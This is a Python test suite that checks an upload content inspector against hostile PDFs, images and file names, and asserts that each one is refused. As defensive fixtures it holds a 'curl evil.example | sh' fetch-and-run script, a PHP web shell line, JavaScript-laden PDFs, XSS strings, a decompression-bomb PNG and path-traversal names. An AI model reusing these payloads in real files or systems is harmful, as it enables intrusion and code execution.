"""The content inspector against a hostile corpus, every file of it built here at test time."""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

from domain.blobs import FilesystemBlobStore
from domain.errors import DocumentRefused
from domain.inspection import ContentInspector
from domain.values import MB

ALL = ("pdf", "jpeg", "png")


@pytest.fixture
def store(tmp_path: Path) -> FilesystemBlobStore:
    return FilesystemBlobStore(tmp_path / "documents")


def inspect(
    store: FilesystemBlobStore, content: bytes, allowed: tuple[str, ...] = ALL, limit: int = MB
) -> str:
    """What the document service does: stream into the store, then inspect the staged file."""
    with store.receive(io.BytesIO(content), limit=limit) as received:
        return ContentInspector().inspect(received.path, allowed)


def refusal(store: FilesystemBlobStore, content: bytes, allowed: tuple[str, ...] = ALL) -> str:
    with pytest.raises(DocumentRefused) as refused:
        inspect(store, content, allowed)
    assert refused.value.message
    return refused.value.code


# The corpus: PDFs


def save(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def new_pdf() -> pikepdf.Pdf:
    """Two pages of text, a few KB: appended data lies beyond the first kilobyte."""
    pdf = pikepdf.new()
    for number in (1, 2):
        pdf.add_blank_page(page_size=(595, 842))
        text = b"".join(
            b"BT /F1 10 Tf 50 %d Td (Line %d of page %d) Tj ET\n" % (800 - 12 * i, i, number)
            for i in range(40)
        )
        pdf.pages[-1].Contents = pdf.make_stream(text)
    return pdf


def plain_pdf() -> bytes:
    return save(new_pdf())


def javascript_action() -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert('hello')"))


def pdf_with(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    pdf = new_pdf()
    change(pdf)
    return save(pdf)


def open_action_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(javascript_action())


def names_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(
            Names=Array([String("greet"), pdf.make_indirect(javascript_action())])
        )
    )


def page_additional_action(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=javascript_action())  # a direct object, never indirect


def rendition_javascript(pdf: pikepdf.Pdf) -> None:
    # A media action that carries a script in its /JS entry.
    pdf.Root.OpenAction = Dictionary(S=Name.Rendition, OP=1, JS=String("app.alert(1)"))


def xfa_form(pdf: pikepdf.Pdf) -> None:
    template = b'<template><subform><event activity="initialize"><script>app.alert(1)</script>'
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(template))


def launch_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def embedded_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not really")


def file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="invoice.exe")
    annotation = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=Array([10, 10, 30, 30]),
        FS=spec.obj,
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))


def unreferenced_javascript() -> bytes:
    """A script object that nothing refers to and no cross-reference table lists: readers that
    repair the file (as qpdf and most viewers do) still find it."""
    content = plain_pdf()
    xref = content.index(b"xref")
    orphan = b"9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
    return content[:xref] + orphan + content[xref:]


def link_and_destination(pdf: pikepdf.Pdf) -> None:
    page = pdf.pages[0].obj
    pdf.Root.OpenAction = Array([page, Name.Fit])  # open at page 1: a destination, not a script
    page.Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([10, 10, 100, 30]),
                A=Dictionary(S=Name.URI, URI=String("https://www.gov.uk")),
            )
        ]
    )


def encrypted_pdf(user: str) -> bytes:
    return save(new_pdf(), encryption=pikepdf.Encryption(owner="owner-secret", user=user))


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return out.getvalue()


def html_in_pdf_head() -> bytes:
    header, rest = plain_pdf().split(b"\n", 1)
    return header + b"\n%<html><script>alert(1)</script></html>\n" + rest


# The corpus: images


def image_bytes(kind: str, size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 120, 40)).save(out, kind.upper(), **options)
    return out.getvalue()


def scanned_pdf() -> bytes:
    """A photo saved as PDF by Pillow, as a phone scanning app might."""
    out = io.BytesIO()
    Image.new("RGB", (300, 200), (255, 255, 255)).save(out, "PDF")
    return out.getvalue()


def png_with_text(text: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    return image_bytes("png", pnginfo=info)


def jpeg_with_comment(comment: bytes) -> bytes:
    return image_bytes("jpeg", comment=comment)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@functools.cache
def png_bomb() -> bytes:
    """A real 50,000 x 50,000 one-bit PNG (2.5 billion pixels) in about 300 KB."""
    width = height = 50_000
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    compressor = zlib.compressobj(9)
    row = b"\0" * (1 + width // 8)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims another size."""
    data = bytearray(image_bytes("jpeg"))
    sof = data.find(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def associated_file(pdf: pikepdf.Pdf) -> None:
    # PDF 2.0 "associated files": a file specification with an embedded stream, off the catalog.
    pdf.Root.AF = Array([pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00").obj])


def corrupt_png_pixels() -> bytes:
    """Damaged compressed pixels under a correct CRC: only decoding finds it."""
    image = Image.new("RGB", (64, 48))
    image.putdata([(i % 251, i % 241, i % 239) for i in range(64 * 48)])
    out = io.BytesIO()
    image.save(out, "PNG")
    data = bytearray(out.getvalue())
    start = data.find(b"IDAT") + 4
    (length,) = struct.unpack(">I", data[start - 8 : start - 4])
    data[start + 20 : start + length - 8] = bytes(length - 28)
    data[start + length : start + length + 4] = struct.pack(
        ">I", zlib.crc32(data[start - 4 : start + length])
    )
    return bytes(data)


def corrupt_png_crc() -> bytes:
    data = bytearray(image_bytes("png"))
    idat = data.find(b"IDAT")
    data[idat + 6] ^= 0xFF  # flip bits in the compressed pixels; the CRC no longer matches
    return bytes(data)


# Accepted


@pytest.mark.parametrize(
    ("content", "media_type"),
    [
        pytest.param(plain_pdf(), "application/pdf", id="pdf"),
        pytest.param(scanned_pdf(), "application/pdf", id="pdf-from-an-image"),
        pytest.param(pdf_with(link_and_destination), "application/pdf", id="pdf-with-link"),
        pytest.param(plain_pdf() + b"\r\n\x00\x00", "application/pdf", id="pdf-then-padding"),
        pytest.param(image_bytes("jpeg"), "image/jpeg", id="jpeg"),
        pytest.param(image_bytes("jpeg", progressive=True), "image/jpeg", id="jpeg-progressive"),
        pytest.param(image_bytes("png"), "image/png", id="png"),
        pytest.param(png_with_text("Scanned at the library"), "image/png", id="png-with-text"),
    ],
)
def test_a_plain_document_is_accepted_as_the_type_its_content_shows(
    store: FilesystemBlobStore, content: bytes, media_type: str
) -> None:
    assert inspect(store, content) == media_type


def test_a_png_named_pdf_is_still_a_png(store: FilesystemBlobStore, tmp_path: Path) -> None:
    # given a PNG whose file name says PDF
    path = tmp_path / "passport.pdf"
    path.write_bytes(image_bytes("png"))
    # when it is inspected, then its content decides
    assert ContentInspector().inspect(path, ALL) == "image/png"


# Refused


@pytest.mark.parametrize(
    ("content", "allowed", "code"),
    [
        pytest.param(image_bytes("png"), ("pdf",), "wrong_type", id="png-where-only-pdf"),
        pytest.param(plain_pdf(), ("jpeg", "png"), "wrong_type", id="pdf-where-only-images"),
        pytest.param(b"Dear officer,\nplease find attached.\n", ALL, "wrong_type", id="text"),
        pytest.param(
            b"<!DOCTYPE html><html><body><script>fetch('/officer')</script></body></html>",
            ALL,
            "wrong_type",
            id="html-named-pdf",
        ),
        pytest.param(b"#!/bin/sh\ncurl evil.example | sh\n", ALL, "wrong_type", id="script"),
        pytest.param(image_bytes("gif"), ALL, "wrong_type", id="gif"),
        pytest.param(zip_archive(), ALL, "wrong_type", id="zip"),
        pytest.param(
            pdf_with(open_action_javascript), ALL, "pdf_active_content", id="openaction-js"
        ),
        pytest.param(pdf_with(names_javascript), ALL, "pdf_active_content", id="names-javascript"),
        pytest.param(pdf_with(page_additional_action), ALL, "pdf_active_content", id="page-aa-js"),
        pytest.param(pdf_with(launch_action), ALL, "pdf_active_content", id="launch"),
        pytest.param(pdf_with(rendition_javascript), ALL, "pdf_active_content", id="rendition-js"),
        pytest.param(pdf_with(xfa_form), ALL, "pdf_active_content", id="xfa-form"),
        pytest.param(unreferenced_javascript(), ALL, "pdf_active_content", id="orphan-js"),
        pytest.param(encrypted_pdf(user="open-sesame"), ALL, "pdf_encrypted", id="encrypted"),
        pytest.param(encrypted_pdf(user=""), ALL, "pdf_encrypted", id="owner-password-only"),
        pytest.param(plain_pdf()[:300], ALL, "pdf_malformed", id="truncated-pdf"),
        pytest.param(b"%PDF-1.7\nnot a pdf at all\n%%EOF\n", ALL, "pdf_malformed", id="junk-pdf"),
        pytest.param(pdf_with(embedded_file), ALL, "pdf_embedded_files", id="embedded-file"),
        pytest.param(
            pdf_with(file_attachment_annotation), ALL, "pdf_embedded_files", id="attachment-annot"
        ),
        pytest.param(pdf_with(associated_file), ALL, "pdf_embedded_files", id="associated-file"),
        pytest.param(plain_pdf() + zip_archive(), ALL, "polyglot", id="pdf-then-zip"),
        pytest.param(plain_pdf() + plain_pdf(), ALL, "polyglot", id="pdf-then-pdf"),
        pytest.param(plain_pdf() + b"alert(1)", ALL, "polyglot", id="pdf-then-text"),
        pytest.param(
            image_bytes("png") + b"Rar!\x1a\x07\x00 archive", ALL, "polyglot", id="png-then-rar"
        ),
        pytest.param(
            image_bytes("jpeg") + b"7z\xbc\xaf\x27\x1c archive", ALL, "polyglot", id="jpeg-then-7z"
        ),
        pytest.param(html_in_pdf_head(), ALL, "polyglot", id="html-in-pdf-head"),
        pytest.param(
            image_bytes("png") + b"<html><script>alert(1)</script></html>",
            ALL,
            "polyglot",
            id="png-then-html",
        ),
        pytest.param(
            png_with_text("<SCRIPT>alert(document.cookie)</SCRIPT>"),
            ALL,
            "polyglot",
            id="html-inside-png",
        ),
        pytest.param(png_with_text("%PDF-1.7 1 0 obj"), ALL, "polyglot", id="pdf-inside-png"),
        pytest.param(image_bytes("jpeg") + zip_archive(), ALL, "polyglot", id="jpeg-then-zip"),
        pytest.param(jpeg_with_comment(zip_archive()), ALL, "polyglot", id="zip-inside-jpeg"),
        pytest.param(image_bytes("png")[:-20], ALL, "image_malformed", id="truncated-png"),
        pytest.param(image_bytes("jpeg")[:-200], ALL, "image_malformed", id="truncated-jpeg"),
        pytest.param(corrupt_png_crc(), ALL, "image_malformed", id="png-bad-crc"),
        pytest.param(corrupt_png_pixels(), ALL, "image_malformed", id="png-bad-pixels"),
        pytest.param(jpeg_declaring(60_000, 60_000), ALL, "image_too_many_pixels", id="jpeg-bomb"),
    ],
)
def test_a_hostile_file_is_refused_with_its_reason(
    store: FilesystemBlobStore, content: bytes, allowed: tuple[str, ...], code: str
) -> None:
    assert refusal(store, content, allowed) == code


def test_a_decompression_bomb_is_refused_before_any_decoding(store: FilesystemBlobStore) -> None:
    # given a PNG of 300 KB declaring 50,000 x 50,000 pixels
    bomb = png_bomb()
    assert len(bomb) < MB
    # when it is inspected, then it is refused for its pixel count
    assert refusal(store, bomb) == "image_too_many_pixels"


def test_pillows_own_bomb_limit_is_a_refusal_too(store: FilesystemBlobStore) -> None:
    # given an inspector allowing more pixels than Pillow will open
    inspector = ContentInspector(max_pixels=10**12)
    # when the bomb is inspected, then Pillow's refusal comes out as the inspector's
    with (
        store.receive(io.BytesIO(png_bomb()), limit=MB) as received,
        pytest.raises(DocumentRefused) as refused,
    ):
        inspector.inspect(received.path, ALL)
    assert refused.value.code == "image_too_many_pixels"


def test_an_image_just_over_the_pixel_limit_is_refused(store: FilesystemBlobStore) -> None:
    # given a 100 x 100 image and a limit of 9,999 pixels
    inspector = ContentInspector(max_pixels=9_999)
    with store.receive(io.BytesIO(image_bytes("png", size=(100, 100))), limit=MB) as received:
        # when it is inspected, then it is refused; at 10,000 it is accepted
        with pytest.raises(DocumentRefused) as refused:
            inspector.inspect(received.path, ALL)
        assert refused.value.code == "image_too_many_pixels"
        assert ContentInspector(max_pixels=10_000).inspect(received.path, ALL) == "image/png"


def test_one_byte_over_the_limit_never_reaches_the_inspector(store: FilesystemBlobStore) -> None:
    # given a valid PDF padded to one byte over the limit
    content = plain_pdf()
    limit = len(content)
    # when it is received, then the store refuses it
    with pytest.raises(DocumentRefused) as refused:
        inspect(store, content + b"\n", limit=limit)
    assert refused.value.code == "too_large"


def test_an_empty_file_is_refused(store: FilesystemBlobStore) -> None:
    assert refusal(store, b"") == "empty"


def test_wrong_type_names_the_types_allowed(store: FilesystemBlobStore) -> None:
    with pytest.raises(DocumentRefused) as refused:
        inspect(store, b"plain text", ("pdf", "jpeg", "png"))
    assert refused.value.message == "The selected file must be a PDF, JPG or PNG"
    assert refused.value.params == {"types": "PDF, JPG or PNG"}


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (encrypted_pdf(user="x"), "The selected file is password protected"),
        (
            pdf_with(open_action_javascript),
            "The selected file contains active content (JavaScript) and cannot be accepted",
        ),
    ],
)
def test_a_refusal_says_why_in_plain_words(
    store: FilesystemBlobStore, content: bytes, message: str
) -> None:
    with pytest.raises(DocumentRefused) as refused:
        inspect(store, content)
    assert refused.value.message == message


# File names


@pytest.mark.parametrize(
    "name",
    [
        pytest.param("../../etc/passwd", id="traversal"),
        pytest.param("..\\..\\windows\\win.ini", id="windows-traversal"),
        pytest.param("scans/passport.pdf", id="slash"),
        pytest.param("passport\0.pdf", id="nul"),
        pytest.param("passport\n.pdf", id="newline"),
        pytest.param("passport\x1b[31m.pdf", id="escape"),
        pytest.param("invoice\u202efdp.exe", id="rtl-override"),
        pytest.param("invoice\u2067fdp.exe", id="rtl-isolate"),
        pytest.param("invoice\u200f.pdf", id="rtl-mark"),
        pytest.param("invoice\u061c.pdf", id="arabic-letter-mark"),
        pytest.param("x" * 300, id="300-characters"),
        pytest.param("é" * 200, id="over-255-bytes"),
        pytest.param("", id="empty"),
        pytest.param("   ", id="blank"),
        pytest.param(".", id="dot"),
        pytest.param("..", id="dot-dot"),
        pytest.param("..passport.pdf", id="dot-dot-prefix"),
        pytest.param("passport\ud800.pdf", id="lone-surrogate"),
    ],
)
def test_a_dangerous_file_name_is_refused(name: str) -> None:
    with pytest.raises(DocumentRefused) as refused:
        ContentInspector().check_name(name)
    assert refused.value.code == "bad_name"
    assert refused.value.message.startswith("The file name ")


@pytest.mark.parametrize(
    "name",
    [
        "Passport scan (page 1).pdf",
        "ФОТО паспорта.jpg",
        "شهادة الميلاد.pdf",
        "\U0001f469\u200d\U0001f467 family.png",
        ".hidden.pdf",
        "x" * 255,
    ],
)
def test_an_ordinary_file_name_is_kept_for_display(name: str) -> None:
    assert ContentInspector().check_name(name) == name


def test_a_phone_photo_with_further_pictures_after_the_first_is_accepted(store):
    # Ultra HDR and MPO photos (Multi-Picture Format) carry a second complete JPEG after the
    # first one's end marker; some cameras pad the end with fill bytes.
    ultra_hdr = image_bytes("jpeg") + image_bytes("jpeg", (16, 12))
    padded = image_bytes("jpeg") + b"\x00" * 32

    assert inspect(store, ultra_hdr) == "image/jpeg"
    assert inspect(store, padded) == "image/jpeg"
    assert refusal(store, ultra_hdr + b"<?php system($_GET[1]); ?>") == "polyglot"
    assert refusal(store, image_bytes("jpeg") + b"\xff\xd8\xff\xe0 broken") == "image_malformed"
